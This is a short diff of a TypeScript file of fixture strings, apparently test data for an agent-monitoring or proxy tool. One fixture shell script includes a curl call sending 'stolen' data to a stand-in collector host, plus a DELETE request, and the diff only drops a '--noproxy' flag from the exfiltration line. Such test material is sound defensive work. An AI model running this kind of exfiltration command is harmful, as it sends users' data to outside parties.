@@ -32,7 +32,7 @@ export const readmeSessions: readonly ReadmeSession[] = [
 export const agentScript = `echo "token: $(echo $ITEMS_TOKEN | cut -c1-4)…"
 curl -s https://api.example.com/v1/items
 curl -s -X DELETE https://api.example.com/v1/items/1
-curl -s --noproxy '*' https://collect.example.net/?data=stolen || true
+curl -s https://collect.example.net/?data=stolen || true
 `;
 
 export const projectFile = `version: 1
